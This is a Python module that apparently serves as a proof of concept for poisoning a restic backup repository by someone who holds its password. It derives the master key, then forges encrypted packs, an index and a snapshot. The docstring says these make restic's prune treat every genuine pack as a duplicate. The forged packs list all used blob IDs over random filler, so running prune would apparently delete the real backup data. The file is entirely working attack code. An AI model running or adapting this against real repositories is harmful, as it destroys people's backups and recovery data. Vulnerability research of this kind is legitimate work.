"""Forging objects of a restic repository, as somebody can who has its password.

restic's design document, "Keys, Encryption and MAC" and "Pack Format".
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
from collections.abc import Container, Mapping, Sequence
from typing import Any

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.kdf.scrypt import Scrypt
from cryptography.hazmat.primitives.poly1305 import Poly1305

HEADER_ENTRY, HEADER = 37, 4 + 32
"""Bytes of a pack's header for each blob, and for all."""
EMPTY_BLOB = 32
"""What encryption adds: the smallest blob."""


def _aes(key: bytes, mode: modes.Mode, data: bytes) -> bytes:
    cipher = Cipher(algorithms.AES(key), mode).encryptor()
    return cipher.update(data) + cipher.finalize()


class Key:
    """The master key of a repository."""

    def __init__(self, file: bytes, password: str) -> None:
        about = json.loads(file)
        derived = Scrypt(
            salt=base64.b64decode(about["salt"]),
            length=64,
            n=about["N"],
            r=about["r"],
            p=about["p"],
        ).derive(password.encode())
        sealed = base64.b64decode(about["data"])
        iv, content = sealed[:16], sealed[16:-16]
        master = json.loads(_aes(derived[:32], modes.CTR(iv), content))
        self.encrypt_key = base64.b64decode(master["encrypt"])
        self.mac_k = base64.b64decode(master["mac"]["k"])
        self.mac_r = base64.b64decode(master["mac"]["r"])

    def seal(self, plain: bytes) -> bytes:
        """Encrypt and authenticate."""
        iv = os.urandom(16)
        content = _aes(self.encrypt_key, modes.CTR(iv), plain)
        one_time = self.mac_r + _aes(self.mac_k, modes.ECB(), iv)
        return iv + content + Poly1305.generate_tag(one_time, content)


def poisoned(
    key: Key,
    indexes: Sequence[Mapping[str, Any]],
    used: Container[str],
    snapshot: Mapping[str, Any],
) -> dict[str, bytes]:
    """Return objects by path: with them, prune takes every genuine pack for a duplicate.

    Two small packs claim all used blobs that the indexes list, and each has one blob that is needed
    besides: a tree, and a file's content. ``snapshot`` is one to be like.
    """
    blobs = {
        (blob["type"], blob["id"]): blob
        for index in indexes
        for pack in index["packs"]
        for blob in pack["blobs"]
        if blob["id"] in used
    }
    content = os.urandom(8)
    node = {
        "name": "f", "type": "file", "mode": 420, "mtime": "2026-01-01T00:00:00Z",
        "atime": "2026-01-01T00:00:00Z", "ctime": "2026-01-01T00:00:00Z", "uid": 0, "gid": 0,
        "size": len(content), "content": [hashlib.sha256(content).hexdigest()],
    }  # fmt: skip
    tree = json.dumps({"nodes": [node]}).encode() + b"\n"
    objects: dict[str, bytes] = {}
    packs = []
    for kind, needed in (("data", content), ("tree", tree)):
        claimed = [blob["id"] for (each, _), blob in blobs.items() if each == kind]
        pack, listed = _pack(key, kind, needed, claimed)
        name = hashlib.sha256(pack).hexdigest()
        objects[f"data/{name}"] = pack
        packs.append({"id": name, "blobs": listed})
    for path, document in (
        ("index", {"supersedes": None, "packs": packs}),
        ("snapshots", {**snapshot, "tree": hashlib.sha256(tree).hexdigest()}),
    ):
        sealed = key.seal(json.dumps(document).encode())
        objects[f"{path}/{hashlib.sha256(sealed).hexdigest()}"] = sealed
    return objects


def _pack(
    key: Key, kind: str, needed: bytes, claimed: Sequence[str]
) -> tuple[bytes, list[dict[str, Any]]]:
    """Return a pack whose size is what its list makes it, and that list."""
    first = key.seal(needed)
    listed = [
        {"id": hashlib.sha256(needed).hexdigest(), "type": kind, "offset": 0, "length": len(first)}
    ]
    for number, blob in enumerate(claimed):
        offset = len(first) + EMPTY_BLOB * number
        listed.append({"id": blob, "type": kind, "offset": offset, "length": EMPTY_BLOB})
    size = len(first) + EMPTY_BLOB * len(claimed) + HEADER + HEADER_ENTRY * len(listed)
    return first + os.urandom(size - len(first)), listed
